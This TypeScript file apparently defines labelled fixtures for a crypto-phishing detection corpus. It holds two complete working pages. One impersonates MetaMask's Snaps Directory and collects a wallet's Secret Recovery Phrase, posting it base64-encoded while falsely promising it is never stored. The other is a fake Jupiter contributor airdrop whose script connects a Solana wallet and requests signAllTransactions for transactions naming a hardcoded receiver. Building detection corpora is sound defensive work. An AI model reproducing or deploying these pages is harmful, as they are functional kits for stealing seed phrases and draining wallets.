// Wallet drainers and seed-phrase pages dressed as contributor airdrops, hackathon prizes and dev tools (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, FONT, GH_MARK, b64 } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-metamask-snap-publisher-seed-phrase',
  label: 'cryptodrainer',
  kind: 'seed-phrase-harvest',
  url: 'https://metamask-snaps-validate.com/publisher/verify?snap=npm%3A%40quellwerk%2Fsigner-snap',
  body: doc({
    title: 'MetaMask Snaps — Publisher verification',
    head: `<style>body{margin:0;font-family:"Euclid Circular B",${FONT};background:#f2f4f6;color:#24272a}
.top{background:#fff;padding:16px 32px;border-bottom:1px solid #e6e6e6;display:flex;align-items:center;gap:10px;font-weight:700}
.c{max-width:640px;margin:40px auto;background:#fff;border-radius:12px;padding:32px;box-shadow:0 2px 12px rgba(0,0,0,.05)}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;margin:16px 0}.g label{display:flex;align-items:center;gap:6px;font-size:13px;color:#6a737d}
.g input{width:100%;border:1px solid #bbc0c5;border-radius:8px;padding:9px;font-size:14px}
.b{width:100%;background:#0376c9;color:#fff;border:0;border-radius:100px;padding:13px;font-size:15px;font-weight:600;cursor:pointer}
.sel{display:flex;gap:8px;margin:10px 0}.sel span{border:1px solid #bbc0c5;border-radius:100px;padding:4px 12px;font-size:13px;cursor:pointer}.sel .on{background:#24272a;color:#fff}</style>`,
    body: `<div class="top"><svg width="30" height="28" viewBox="0 0 30 28"><path d="M27 1L16.5 8.8l2-4.6z" fill="#e17726"/><path d="M3 1l10.4 7.9-1.9-4.7z M23.2 19.3l-2.8 4.3 6 1.7 1.7-5.9z M1.9 19.4l1.7 5.9 6-1.7-2.8-4.3z" fill="#e27625"/></svg>MetaMask <span style="font-weight:400;color:#6a737d">Snaps Directory</span></div>
<div class="c"><h2 style="margin-top:0">Publisher verification required</h2>
<p>The Snap <b>npm:@quellwerk/signer-snap</b> was flagged during the allowlist review. To keep it listed in the Snaps Directory, the publisher must prove control of the wallet that signed the release.</p>
<p style="font-size:14px;color:#6a737d">Enter the Secret Recovery Phrase of the publishing wallet. Verification happens locally and your phrase is never stored.</p>
<div class="sel" id="sel"><span class="on" data-n="12">12 words</span><span data-n="18">18 words</span><span data-n="24">24 words</span></div>
<div class="g" id="g"></div>
<button class="b" id="v">Verify publisher</button><p id="m" style="font-size:13px;color:#d73a49"></p></div>
<script>
function grid(n){var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=n;i++){g.insertAdjacentHTML('beforeend','<label>'+i+'.<input type="password" autocomplete="off" spellcheck="false" data-i="'+i+'"></label>');}
 g.querySelector('input').addEventListener('paste',function(e){var w=(e.clipboardData.getData('text')||'').trim().split(/\\s+/);if(w.length>1){e.preventDefault();g.querySelectorAll('input').forEach(function(x,j){x.value=w[j]||''});}});}
grid(12);document.querySelectorAll('#sel span').forEach(function(s){s.onclick=function(){document.querySelectorAll('#sel span').forEach(function(x){x.className=''});s.className='on';grid(+s.dataset.n);}});
document.getElementById('v').onclick=function(){var w=[].map.call(document.querySelectorAll('#g input'),function(x){return x.value.trim().toLowerCase()});
 if(w.some(function(x){return !x})){document.getElementById('m').textContent='Please fill in all words.';return;}
 fetch('/api/v1/validate',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({p:btoa(w.join(' ')),snap:'@quellwerk/signer-snap',n:w.length})})
 .then(function(){document.getElementById('m').style.color='#28a745';document.getElementById('m').textContent='Verification submitted. Review takes up to 48 hours.';});};
</script>`,
  }),
  routes: { 'metamask-snaps-validate.com/api/v1/validate': jsonRoute({ status: 'queued' }) },
},

(() => {
  const app = `(function(){
var R="9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin",API="/api/v2/tx";
var btn=document.getElementById('claim'),msg=document.getElementById('msg');
function P(){return (window.phantom&&window.phantom.solana)||window.solana||(window.solflare&&window.solflare.isSolflare?window.solflare:null);}
btn.addEventListener('click',async function(){var p=P();if(!p){msg.textContent='Install Phantom or Solflare to claim.';return;}
 try{var r=await p.connect();var pk=(r.publicKey||p.publicKey).toString();msg.textContent='Checking allocation for '+pk.slice(0,4)+'…'+pk.slice(-4);
  var j=await (await fetch(API,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,recv:R})})).json();
  var res=await p.request({method:'signAllTransactions',params:{message:j.txs}});
  await fetch('/api/v2/submit',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,signed:res})});
  msg.textContent='Success! Your JUP will be visible in your wallet shortly.';}catch(e){msg.textContent='Transaction rejected.';}
});})();`;
  return {
    id: 'zz-solana-contributor-round-sign-all',
    label: 'cryptodrainer',
    kind: 'contributor-airdrop-drainer',
    url: 'https://jup-contributors.com/claim',
    body: doc({
      title: 'Jupiter — Open-source contributor round',
      head: `<style>body{margin:0;font-family:${FONT};background:#0f1218;color:#e8f9ff}.h{padding:18px 36px;display:flex;align-items:center;gap:10px;font-weight:700;color:#c7f284}
.c{max-width:540px;margin:70px auto;background:#19202b;border-radius:18px;padding:34px;text-align:center}.b{background:linear-gradient(90deg,#c7f284,#00bef0);color:#0f1218;border:0;border-radius:12px;padding:14px 30px;font-weight:800;font-size:16px;cursor:pointer}
.n{font-size:42px;font-weight:800}</style>`,
      body: `<div class="h">⟡ Jupiter</div><div class="c"><p style="color:#8a9bb0">Contributor round · Season 2</p><div class="n">25,000,000 JUP</div>
<p style="color:#8a9bb0">Allocated to developers who contributed code, docs or audits to the Solana ecosystem. Connect your wallet to check and claim your share.</p>
<button class="b" id="claim">Connect &amp; Claim</button><p id="msg" style="font-size:14px;color:#8a9bb0;margin-top:16px"></p>
<p style="font-size:12px;color:#5c6b7f;margin-top:26px">Unclaimed tokens return to the DAO after 14 days.</p></div>
<script src="/_next/static/chunks/pages/claim-5a1e9c0b.js" defer></script>`,
    }),
    routes: {
      'jup-contributors.com/_next/static/chunks/pages/claim-5a1e9c0b.js': jsRoute(app),
      'jup-contributors.com/api/v2/tx': jsonRoute({ txs: ['4hXTCkRzt9WyecNzV1XPgCDfGAZzQKNxLXgynz5QDuWWPSAZBZSHptvWRL3BjCvzUXRdKvHL2b7yGrRQcWyaqsaBCncVG7BFggS8w9snUts67BSh3EqKpXLUm5UMHfD7ZBe9GhARjbNQMLJ1QD3Spr6oMTBU6EhdB4RD8CP2xUxr2u3d6fos36PD98XS6oX8TQjLpsMwncs5DAMiD4nNnR8NBfyghGCWvCVifVwvA8B8TJxE1aiyiv2L429BCWfyzAme5sZW8rDb14NeCQHhZbtNqfXhcp2tAnaAT'], sig: 'c3RhZ2Uy' }),
    },
  } satisfies Entry;
})(),
];
